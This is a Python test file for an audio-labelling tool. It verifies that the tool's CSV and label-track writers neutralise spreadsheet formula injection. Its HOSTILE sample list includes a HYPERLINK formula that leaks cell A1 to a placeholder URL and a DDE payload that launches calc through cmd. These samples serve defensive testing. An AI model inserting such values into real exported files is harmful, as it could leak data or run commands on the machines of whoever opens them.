"""Cells that a spreadsheet would run: none is written, numbers stay numbers, and every text comes back."""

import csv
import io

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from audiobat.data.csv_text import csv_text, escape, unescape
from audiobat.data.embeddings import write_embeddings
from audiobat.data.prepare.merge import write_csv as write_report
from audiobat.data.skipped import write_skipped
from audiobat.data.sources.lists import read_columns
from audiobat.evaluation.report.render import csv_lines
from audiobat.inference import writers

SIGNS = "=+-@＝＋－＠"
HOSTILE = [
    '=HYPERLINK("https://example.org?"&A1,"a")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "-",
    "-4.wav",
    "@eaDir/a.wav",
]
PLAIN = ["a.wav", "dog", "'til dawn", "", "a=b", "1-2", "-5", "+5", "-1.5e-3", "-.5"]


def runs(cell):
    """Whether a spreadsheet may take a cell for a formula that is no number."""
    try:
        float(cell)
    except ValueError:
        return cell[:1] in ("\t", "\r", "\n") or cell.lstrip()[:1] in tuple(SIGNS)
    return False


@given(st.text(alphabet=st.sampled_from([*SIGNS, *"'\t\r\n ,;\"a1.e\u00a0"]), max_size=8) | st.text(max_size=8))
def test_every_text_comes_back_and_none_is_a_formula(text):
    assert unescape(escape(text)) == text
    assert not runs(escape(text))
    (row,) = csv.reader(io.StringIO(csv_text([[text, "end"]]), newline=""), strict=True)
    assert row == [escape(text), "end"]


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_no_formula_stays(text):
    assert escape(text) == text


def texts_of(path):
    with path.open(newline="", encoding="utf-8") as file:
        return [cell for row in csv.reader(file, strict=True) for cell in row]


def rows_of_embed(names):
    yield {
        "path": np.array(names),
        "start": np.zeros(len(names)),
        "end": np.ones(len(names)),
        "embedding": np.full((len(names), 2), -0.5, np.float32),
    }


def write_results(path):
    path.write_text(csv_lines([{"path": name, "score": -0.25} for name in HOSTILE]), encoding="utf-8", newline="")


WRITERS = {
    "skipped": lambda path: write_skipped(path, dict.fromkeys(HOSTILE, "=why")),
    "duplicates": lambda path: write_report(path, ("path", "key"), [(name, name) for name in HOSTILE]),
    "embed": lambda path: write_embeddings(path, rows_of_embed(HOSTILE), {}),
    "results": write_results,
}


@pytest.mark.parametrize("writer", WRITERS)
def test_our_tables_run_nothing_and_our_reader_gives_the_names_back(tmp_path, writer):
    WRITERS[writer](tmp_path / "table.csv")
    assert not any(map(runs, texts_of(tmp_path / "table.csv")))
    columns = read_columns(tmp_path / "table.csv")
    assert sorted(columns["path"]) == sorted(HOSTILE)
    assert set(columns.get("e0", ["-0.5"])) == {"-0.5"}
    assert set(columns.get("score", ["-0.25"])) == {"-0.25"}


def test_predictions_run_nothing_and_tracks_keep_their_labels(tmp_path):
    rows = [writers.Prediction(name, 0.0, 1.0, name, 0.5) for name in HOSTILE]
    writers.write_csv(tmp_path / "labels.csv", rows)
    cells = texts_of(tmp_path / "labels.csv")
    assert not any(map(runs, cells))
    assert [unescape(label) for label in cells[8::5]] == HOSTILE
    writers.write_audacity(tmp_path / "track.txt", rows)
    writers.write_raven(tmp_path / "track.selections.txt", rows, 8000.0)
    wanted = [writers.one_line(label) for label in HOSTILE]
    audacity = (tmp_path / "track.txt").read_text(encoding="utf-8").splitlines()
    assert [line.split("\t")[2] for line in audacity] == wanted
    raven = (tmp_path / "track.selections.txt").read_text(encoding="utf-8").splitlines()[1:]
    assert [line.split("\t")[8] for line in raven] == wanted
